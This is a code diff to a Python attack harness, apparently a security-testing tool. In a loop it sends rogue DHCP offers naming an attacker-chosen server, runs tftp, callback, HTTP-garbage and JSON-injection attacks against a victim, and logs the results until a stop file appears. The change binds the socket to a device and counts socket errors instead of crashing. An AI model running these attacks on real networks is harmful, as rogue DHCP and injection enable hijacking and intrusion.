@@ -155,6 +155,7 @@ class Attacker:
         address = self._victim_address()
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, self.args.device.encode())
             if address:
                 options = (b"\x35\x01\x04" + b"\x32\x04" + socket.inet_aton(address)
                            + b"\x36\x04" + socket.inet_aton(self.args.server) + b"\xff")
@@ -175,20 +176,26 @@ class Attacker:
         stop = Path(self.args.stop)
         while not stop.exists():
             self.rounds += 1
-            own = self.own_script()
-            self.dhcp()
-            self.victim_script()
+            own = self.attempt(self.own_script)
+            for attack in (self.dhcp, self.victim_script, self.callbacks, self.tftp,
+                           self.garbage_http):
+                self.attempt(attack)
             if own:
-                self.adopt(own)
-                self.nested_json(own)
+                self.attempt(self.adopt, own)
+                self.attempt(self.nested_json, own)
                 if self.rounds % 5 == 1:
-                    self.fabric(own)
-            self.callbacks()
-            self.tftp()
-            self.garbage_http()
+                    self.attempt(self.fabric, own)
             self.write()
             time.sleep(self.args.interval)
         self.write()
+
+    def attempt(self, attack: Any, *args: Any) -> Any:
+        """One attack; an error of ours (a refused socket) is counted, never the end."""
+        try:
+            return attack(*args)
+        except OSError as exc:
+            self.errors[f"{attack.__name__}: {exc}"] += 1
+            return None
 
     def write(self) -> None:
         out: dict[str, Any] = {"rounds": self.rounds, "tokens": self.tokens,
@@ -212,6 +219,7 @@ def main() -> None:
                  "victim-address-file", "own-mac", "own-address", "stop", "out"):
         parser.add_argument(f"--{name}", required=True)
     parser.add_argument("--http-port", type=int, default=8080)
+    parser.add_argument("--device", default="eth0")
     parser.add_argument("--interval", type=float, default=0.5)
     Attacker(parser.parse_args()).run()
 
